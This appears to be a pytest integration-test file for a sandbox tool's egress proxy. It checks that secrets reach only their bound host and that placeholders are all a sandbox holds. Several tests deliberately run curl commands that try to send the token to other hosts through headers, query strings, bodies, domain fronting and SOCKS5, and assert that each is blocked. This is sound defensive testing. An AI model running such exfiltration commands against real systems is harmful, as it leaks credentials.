"""Placeholder secrets against real sandboxes, the real proxy and real HTTPS servers.

The servers live in a network namespace this module creates (as tests/integration/
test_network.py does), with certificates of a CA made here: the daemon verifies them with
that CA (``HUTCH_EGRESS_CA``), never with the sandbox's. ``wrong.secret.test`` presents a
certificate of another CA: the proxy must refuse it. Every server writes what it received
(headers and body) to a log the tests read, and echoes the Authorization header it got.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import random
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import Daemon, destroy_all, sweep
from tests.integration.sandboxmem import memory_holds, sandbox_pids
from tests.integration.testca import ca_pem, make_ca, server_pem

from hutch import HutchError, Sandbox

SERVER = r"""
import http.server, json, socketserver, ssl, sys
addr, port, name, log, cert = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def _serve(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(log, "a") as f:
            f.write(json.dumps({"host": self.headers.get("Host"), "path": self.path,
                                "headers": dict(self.headers), "body": body.decode("latin-1")}) + "\n")
        out = json.dumps({"server": name, "auth": self.headers.get("Authorization"), "size": len(body)}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = _serve
    def log_message(self, *a):
        pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
server = S((addr, port), H)
if cert != "-":
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert)
    server.socket = ctx.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""

VALUE = "sk-live-" + secrets.token_hex(20)  # the real secret: must never be inside a sandbox


def ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True)


@dataclass
class Upstream:
    dir: Path
    ca_pem: bytes  # the CA of the good servers (the daemon trusts it through HUTCH_EGRESS_CA)
    logs: dict[str, Path]

    def received(self, name: str) -> list[dict[str, Any]]:
        path = self.logs[name]
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    assert os.geteuid() == 0, "these tests build a network namespace: run them as root (as CI does)"
    tag = secrets.token_hex(3)
    ns, hv, nv = f"hutch-s{tag}", f"hs{tag}", f"ns{tag}"
    base = random.randrange(0, 2 * 256 * 64) * 4
    net = [198, 18 + base // 65536, (base // 256) % 256, base % 256]
    host_addr = ".".join(map(str, [*net[:3], net[3] + 1]))
    addr = ".".join(map(str, [*net[:3], net[3] + 2]))
    tmp = Path(tempfile.mkdtemp(prefix="hutch-secret-net-"))
    procs: list[subprocess.Popen[bytes]] = []
    try:
        ip("netns", "add", ns)
        ip("link", "add", hv, "type", "veth", "peer", "name", nv)
        ip("link", "set", nv, "netns", ns)
        ip("addr", "add", f"{host_addr}/30", "dev", hv)
        ip("link", "set", hv, "up")
        ip("-n", ns, "addr", "add", f"{addr}/30", "dev", nv)
        ip("-n", ns, "link", "set", nv, "up")
        ip("-n", ns, "link", "set", "lo", "up")
        good, bad = make_ca("secret test CA"), make_ca("some other CA")
        (tmp / "good.pem").write_bytes(server_pem(good, ["api.secret.test", "other.secret.test"]))
        (tmp / "bad.pem").write_bytes(server_pem(bad, ["wrong.secret.test"]))
        good_ca = ca_pem(good)
        (tmp / "ca.pem").write_bytes(good_ca)
        (tmp / "server.py").write_text(SERVER)
        servers = {"tls": (8443, "good.pem"), "wrong": (9443, "bad.pem"), "plain": (8080, "-")}
        logs = {name: tmp / f"{name}.log" for name in servers}
        for name, (port, cert) in servers.items():
            pem = str(tmp / cert) if cert != "-" else "-"
            argv = [sys.executable, str(tmp / "server.py"), addr, str(port), name, str(logs[name]), pem]
            procs.append(subprocess.Popen(["ip", "netns", "exec", ns, *argv]))
        (tmp / "hosts").write_text(f"{addr} api.secret.test other.secret.test wrong.secret.test\n")
        deadline = time.monotonic() + 20
        for port, _ in servers.values():
            while True:
                try:
                    socket.create_connection((addr, port), timeout=0.5).close()
                    break
                except OSError:
                    assert time.monotonic() < deadline, "upstream servers did not start"
                    time.sleep(0.05)
        yield Upstream(tmp, good_ca, logs)
    finally:
        for proc in procs:
            proc.kill()
            proc.wait(5)
        with contextlib.suppress(subprocess.CalledProcessError):
            ip("link", "del", hv)
        with contextlib.suppress(subprocess.CalledProcessError):
            ip("netns", "del", ns)
        subprocess.run(["rm", "-rf", str(tmp)], check=False)


@pytest.fixture(scope="module")
def secd(upstream: Upstream) -> Iterator[Daemon]:
    home = Path(tempfile.mkdtemp(prefix="hutch-test-"))
    d = Daemon(home, HUTCH_EGRESS_HOSTS=str(upstream.dir / "hosts"), HUTCH_EGRESS_CA=str(upstream.dir / "ca.pem")).start()
    try:
        yield d
    finally:
        try:
            destroy_all(home)
        finally:
            d.stop()
            sweep(home)
            subprocess.run(["rm", "-rf", str(home)], check=False)


HOSTS = ["api.secret.test", "other.secret.test", "wrong.secret.test"]
PORTS = [8443, 9443, 8080]


def make(d: Daemon, **extra: Any) -> Sandbox:
    options: dict[str, Any] = {
        "allow_hosts": HOSTS,
        "allow_ports": PORTS,
        "secrets": {"TOKEN": VALUE},
        "secret_hosts": {"TOKEN": ["api.secret.test"]},
    }
    return Sandbox.create(settings=d.settings, **(options | extra))


@pytest.fixture(scope="module")
def box(secd: Daemon) -> Iterator[Sandbox]:
    sbx = make(secd)
    try:
        yield sbx
    finally:
        sbx.destroy()


def sh(sbx: Sandbox, script: str, redact: bool = True) -> tuple[int, str, str]:
    r = sbx.exec(["sh", "-c", script], redact=redact, timeout=60)
    return r.exit_code, r.stdout, r.stderr


def events(d: Daemon, sbx: Sandbox, *types: str) -> list[dict[str, Any]]:
    with d.client() as c:
        return list(c.events(sbx.id, types=list(types) or None))


def placeholder_of(sbx: Sandbox) -> str:
    code, out, err = sh(sbx, 'printf %s "$TOKEN"', redact=False)
    assert code == 0, err
    assert re.fullmatch(r"hutch-secret-TOKEN-[0-9a-f]{32}", out), out
    return out


def test_the_bound_host_gets_the_value_and_the_sandbox_only_a_placeholder(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    token = placeholder_of(box)
    before = len(upstream.received("tls"))
    code, out, err = sh(box, 'curl -sS -m 30 -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/v1/me')
    assert code == 0, err
    got = upstream.received("tls")[before:]
    assert [r["headers"].get("Authorization") for r in got] == [f"Bearer {VALUE}"]
    # the server echoes what it received: the proxy turns the value back into the placeholder
    assert json.loads(out) == {"server": "tls", "auth": "Bearer [redacted:TOKEN]", "size": 0}
    # the environment, /proc/self/environ and the output hold the placeholder, redacted as before
    code, out, _ = sh(box, 'echo "$TOKEN"; cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=')
    assert out == "[redacted:TOKEN]\nTOKEN=[redacted:TOKEN]\n"
    code, out, _ = sh(box, 'cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=', redact=False)
    assert out == f"TOKEN={token}\n"
    assert VALUE not in out
    # its trust: the host's CAs and its own, also where programs that ignore the variables look
    code, out, _ = sh(box, "cmp /.hutch/sandbox-ca.crt /etc/ssl/certs/ca-certificates.crt && echo $SSL_CERT_FILE")
    assert (code, out) == (0, "/.hutch/sandbox-ca.crt\n")
    # no process of the sandbox holds the value in memory; the placeholder is found (the scan sees)
    run = box.exec(["sh", "-c", 'X="$TOKEN"; exec sleep 60'], background=True)
    try:
        deadline = time.monotonic() + 30
        while len(pids := sandbox_pids(secd.home, box.id)) < 3 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert pids
        assert not [pid for pid in pids if memory_holds(pid, VALUE.encode())]
        assert [pid for pid in pids if memory_holds(pid, token.encode())]
    finally:
        run.kill()
    subs = events(secd, box, "secret_substituted")
    assert subs
    assert {"host": "api.secret.test", "secret": "TOKEN", "where": "header", "port": 8443}.items() <= subs[-1]["data"].items()
    assert VALUE not in json.dumps(events(secd, box))


def test_the_placeholder_to_another_allowed_host_is_blocked(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    before = len(upstream.received("tls"))
    code, out, _ = sh(box, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://other.secret.test:8443/steal')
    assert code == 0 and "403 Forbidden" in out and "reason=secret_host" in out
    code, out, _ = sh(box, 'curl -sS -m 30 -i "https://other.secret.test:8443/q?k=$TOKEN"')
    assert "403 Forbidden" in out
    code, out, _ = sh(box, 'curl -sS -m 30 -i --data "t=$TOKEN" https://other.secret.test:8443/post')
    assert "403 Forbidden" in out
    code, out, _ = sh(box, 'curl -sS -m 30 -i -H "X-Leak: $TOKEN" http://other.secret.test:8080/plain')
    assert "403 Forbidden" in out
    # the request is judged by where the tunnel goes, not by the Host header or the TLS name it claims
    fronted = "-k --connect-to api.secret.test:8443:other.secret.test:8443"
    _, out, _ = sh(box, f'curl -sS -m 30 -i {fronted} -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/front')
    assert "403 Forbidden" in out and "reason=secret_host" in out
    # nothing carrying it arrived anywhere; a request without it still goes through
    assert upstream.received("tls")[before:] == []
    code, out, err = sh(box, "curl -sS -m 30 https://other.secret.test:8443/fine")
    assert code == 0 and json.loads(out)["server"] == "tls", err
    blocked = [e["data"] for e in events(secd, box, "secret_exfiltration_blocked")]
    assert [(b["host"], b["secret"], b["where"]) for b in blocked[-5:]] == [
        ("other.secret.test", "TOKEN", "header"),
        ("other.secret.test", "TOKEN", "target"),
        ("other.secret.test", "TOKEN", "body"),
        ("other.secret.test", "TOKEN", "header"),
        ("other.secret.test", "TOKEN", "header"),
    ]
    # the CA's key is on the host only: nothing of it inside
    code, out, _ = sh(box, "ls -A /.hutch; find / -xdev -name 'sandbox-ca.key' 2>/dev/null | head -1")
    assert "key" not in out and "sandbox-ca.crt" in out


def test_basic_credentials_carry_the_placeholder_as_git_sends_it(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    before = len(upstream.received("tls"))
    token = placeholder_of(box)
    code, out, err = sh(box, 'curl -sS -m 30 -u "x-access-token:$TOKEN" https://api.secret.test:8443/repo.git/info/refs')
    assert code == 0, err
    # the server echoes the header it got: the encoded value comes back as the encoded placeholder
    assert base64.b64decode(json.loads(out)["auth"][6:]).decode() == f"x-access-token:{token}"
    (got,) = upstream.received("tls")[before:]
    auth = got["headers"]["Authorization"]
    assert auth.startswith("Basic ") and base64.b64decode(auth[6:]).decode() == f"x-access-token:{VALUE}"
    _, out, _ = sh(box, 'curl -sS -m 30 -i -u "x-access-token:$TOKEN" https://other.secret.test:8443/repo.git/info/refs')
    assert "403 Forbidden" in out
    assert len(upstream.received("tls")) == before + 1


def test_one_kept_alive_connection_carries_several_requests(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    before = len(upstream.received("tls"))
    urls = " ".join(f"https://api.secret.test:8443/n{i}" for i in range(3))
    code, _, err = sh(box, f'curl -sS -m 30 -v -H "Authorization: Bearer $TOKEN" {urls}')
    assert code == 0, err
    assert "Re-using existing connection" in err or "Reusing existing" in err  # one connection, one TLS
    got = upstream.received("tls")[before:]
    assert [(r["path"], r["headers"]["Authorization"]) for r in got] == [(f"/n{i}", f"Bearer {VALUE}") for i in range(3)]


NOT_HTTP = r"""
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT api.secret.test:8443 HTTP/1.1\r\nHost: api.secret.test:8443\r\n\r\n")
assert s.recv(4096).startswith(b"HTTP/1.1 200")
s.sendall(b"\x00\x01 not a protocol the proxy can read\r\n\r\n")
print(s.recv(4096).decode(errors="replace"))
"""


def test_a_tunnel_that_is_not_http_is_refused(secd: Daemon, box: Sandbox) -> None:
    code, out, err = sh(box, f"python3 -c '{NOT_HTTP}'")
    assert code == 0, err
    assert out.startswith("HTTP/1.1 400") and "reason=not_http" in out
    denied = [e["data"] for e in events(secd, box, "egress_denied")]
    assert denied[-1]["reason"] == "not_http" and "--no-intercept api.secret.test" in denied[-1]["rule"]


def test_a_wrong_upstream_certificate_is_refused(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    _, out, _ = sh(box, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://wrong.secret.test:9443/')
    assert "502 Bad Gateway" in out and "not trusted" in out
    assert upstream.received("wrong") == []
    denied = [e["data"] for e in events(secd, box, "egress_denied")]
    assert denied[-1]["reason"] == "upstream_certificate" and denied[-1]["host"] == "wrong.secret.test"


def test_plain_http_is_substituted_too(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    before = len(upstream.received("plain"))
    code, out, err = sh(box, 'curl -sS -m 30 -H "Authorization: Bearer $TOKEN" http://api.secret.test:8080/plain')
    assert code == 0, err
    got = upstream.received("plain")[before:]
    assert [r["headers"]["Authorization"] for r in got] == [f"Bearer {VALUE}"]
    assert VALUE not in out
    # a SOCKS5 tunnel is opened like a CONNECT one: HTTPS through it gets the value, elsewhere a 403
    before = len(upstream.received("tls"))
    socks = 'curl -sS -m 30 -i --socks5-hostname 127.0.0.1:3128 -H "Authorization: Bearer $TOKEN"'
    code, out, err = sh(box, f"{socks} https://api.secret.test:8443/socks")
    assert code == 0 and " 200 " in out.splitlines()[0], err
    _, out, _ = sh(box, f"{socks} https://other.secret.test:8443/socks")
    assert "403 Forbidden" in out
    assert [r["headers"]["Authorization"] for r in upstream.received("tls")[before:]] == [f"Bearer {VALUE}"]


def test_bodies_only_when_asked(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
    token = placeholder_of(box)
    before = len(upstream.received("tls"))
    code, _, err = sh(box, 'curl -sS -m 30 --data "token=$TOKEN" https://api.secret.test:8443/form')
    assert code == 0, err
    assert [r["body"] for r in upstream.received("tls")[before:]] == [f"token={token}"]  # not asked: left as it is
    opted = make(secd, secret_body=["TOKEN"])
    try:
        before = len(upstream.received("tls"))
        code, out, err = sh(opted, 'curl -sS -m 30 --data "{\\"key\\": \\"$TOKEN\\"}" https://api.secret.test:8443/json')
        assert code == 0, err
        got = upstream.received("tls")[before:]
        assert [r["body"] for r in got] == [f'{{"key": "{VALUE}"}}']
        assert got[0]["headers"]["Content-Length"] == str(len(got[0]["body"]))
        assert json.loads(out)["size"] == len(got[0]["body"])
        wheres = {e["data"]["where"] for e in events(secd, opted, "secret_substituted")}
        assert wheres == {"body"}
        # a body replaced in is held whole, so it has a cap: past it, 413 and nothing sent
        before = len(upstream.received("tls"))
        _, out, _ = sh(opted, "head -c 17M /dev/zero | curl -sS -m 60 -i --data-binary @- https://api.secret.test:8443/big")
        assert "HTTP/1.1 413 " in out and "at most 16 MiB" in out
        assert upstream.received("tls")[before:] == []
    finally:
        opted.destroy()


def test_no_intercept_relays_a_host_unopened(secd: Daemon, upstream: Upstream) -> None:
    sbx = make(secd, no_intercept=["other.secret.test"])
    try:
        token = placeholder_of(sbx)
        sbx.files.write("/workspace/ca.pem", upstream.ca_pem)
        before = len(upstream.received("tls"))
        # the real server's certificate reaches the sandbox (it trusts that CA only when told to)
        script = 'curl -sS -m 30 --cacert /workspace/ca.pem -H "Authorization: Bearer $TOKEN" https://other.secret.test:8443/'
        code, _, err = sh(sbx, script)
        assert code == 0, err
        assert [r["headers"]["Authorization"] for r in upstream.received("tls")[before:]] == [f"Bearer {token}"]  # unchecked
        code, _, err = sh(sbx, "curl -sS -m 30 https://other.secret.test:8443/")
        assert code != 0  # not intercepted: the sandbox's own CA is not what it gets
        assert not [e for e in events(secd, sbx, "secret_exfiltration_blocked")]
        with secd.client() as c:
            assert c.get(sbx.id)["spec"]["no_intercept"] == ["other.secret.test"]
    finally:
        sbx.destroy()


def test_bad_input_is_refused_at_create_and_leaves_nothing(secd: Daemon) -> None:
    with secd.client() as c:
        before = {r["id"] for r in c.list(include_all=True)}
    cases = [
        ({"secret_hosts": {"TOKEN": ["not-allowed.example"]}}, "does not allow not-allowed.example"),
        ({"secret_hosts": {"NOPE": ["api.secret.test"]}}, "unknown secret NOPE"),
        ({"secrets": {"TOKEN": ""}}, "secret TOKEN has no value"),
        ({"secret_body": ["OTHER"]}, "OTHER is not bound to a host"),
        ({"network": "none", "allow_hosts": [], "allow_ports": []}, "does not allow api.secret.test"),
    ]
    for extra, message in cases:
        with pytest.raises(HutchError) as info:
            make(secd, **extra)
        assert info.value.kind == "invalid" and message in info.value.message, info.value.message
        assert info.value.hint
    with secd.client() as c:
        assert {r["id"] for r in c.list(include_all=True)} == before
    # the CLI: a secret whose value is missing from the environment
    env = {k: v for k, v in os.environ.items() if k != "TOKEN"} | {"HUTCH_HOME": str(secd.home)}
    argv = [sys.executable, "-m", "hutch", "create", "--allow-host", "api.secret.test", "--secret", "TOKEN"]
    proc = subprocess.run([*argv, "--secret-host", "TOKEN=api.secret.test"], env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2 and "$TOKEN is not set" in proc.stderr


def test_after_a_daemon_restart_placeholders_stay_checked_and_values_are_not_sent(upstream: Upstream) -> None:
    home = Path(tempfile.mkdtemp(prefix="hutch-test-"))
    env = {"HUTCH_EGRESS_HOSTS": str(upstream.dir / "hosts"), "HUTCH_EGRESS_CA": str(upstream.dir / "ca.pem")}
    d = Daemon(home, **env).start()
    try:
        sbx = make(d)
        code, _, err = sh(sbx, 'curl -sS -m 30 -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/')
        assert code == 0, err
        d.stop()  # the sandbox outlives it; the values lived in its memory only
        d = Daemon(home, **env).start()
        before = len(upstream.received("tls"))
        _, out, _ = sh(sbx, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/')
        assert "502 Bad Gateway" in out and "reason=secret_unavailable" in out  # its own CA still opens the TLS
        _, out, _ = sh(sbx, 'curl -sS -m 30 -i -H "Authorization: Bearer $TOKEN" https://other.secret.test:8443/')
        assert "403 Forbidden" in out and "reason=secret_host" in out
        assert upstream.received("tls")[before:] == []
        code, out, err = sh(sbx, "curl -sS -m 30 https://api.secret.test:8443/plain-request")
        assert code == 0 and json.loads(out)["server"] == "tls", err
        sbx.destroy()
    finally:
        try:
            destroy_all(home)
        finally:
            d.stop()
            sweep(home)
            subprocess.run(["rm", "-rf", str(home)], check=False)


def test_an_image_sandbox_trusts_its_ca_where_the_image_keeps_its_bundle(secd: Daemon, busybox_dir: Path) -> None:
    from hutch.client.images import follow

    root = Path(tempfile.mkdtemp(prefix="hutch-secret-image-"))
    try:
        shutil.copytree(busybox_dir, root / "rootfs", symlinks=True)
        bundle = root / "rootfs" / "etc" / "ssl" / "certs" / "ca-certificates.crt"
        bundle.parent.mkdir(parents=True)
        bundle.write_text("the image's own bundle\n")
        with secd.client() as c:
            follow(c.image_import(f"rootfs:{root / 'rootfs'}", "bbssl:1"))
        sbx = make(secd, image="bbssl:1")
        try:
            code, out, err = sh(sbx, 'cmp /.hutch/sandbox-ca.crt /etc/ssl/certs/ca-certificates.crt && echo "$SSL_CERT_FILE"')
            assert (code, out) == (0, "/.hutch/sandbox-ca.crt\n"), err
            code, out, _ = sh(sbx, "grep -c 'BEGIN CERTIFICATE' /.hutch/sandbox-ca.crt; cat /etc/marker")
            assert code == 0 and int(out.split()[0]) >= 1 and out.endswith("from the image\n")
            assert re.fullmatch(r"hutch-secret-TOKEN-[0-9a-f]{32}", sh(sbx, 'printf %s "$TOKEN"', redact=False)[1])
        finally:
            sbx.destroy()
    finally:
        shutil.rmtree(root, ignore_errors=True)
